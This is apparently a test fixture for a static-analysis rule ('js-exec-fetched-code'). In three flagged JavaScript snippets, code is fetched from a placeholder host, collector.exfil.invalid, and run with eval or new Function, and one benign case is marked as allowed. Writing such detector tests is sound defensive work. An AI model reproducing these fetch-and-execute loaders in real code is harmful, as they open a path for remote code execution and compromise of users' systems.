const https = require("https");

async function stage2() {
  const res = await fetch("http://collector.exfil.invalid/payload.js");
  const body = await res.text();
  // ruleid: js-exec-fetched-code
  eval(body);
}

async function loader() {
  const src = await (await fetch("http://collector.exfil.invalid/p")).text();
  // ruleid: js-exec-fetched-code
  new Function(src)();
}

https.get("https://collector.exfil.invalid/x.js", (res) => {
  let code = "";
  res.on("data", (chunk) => (code += chunk));
  // ruleid: js-exec-fetched-code
  res.on("end", () => eval(code));
});

async function weather() {
  const res = await fetch("http://127.0.0.1:8080/weather.json");
  const data = await res.json();
  // ok: js-exec-fetched-code
  console.log(eval("1 + 1"), data);
}
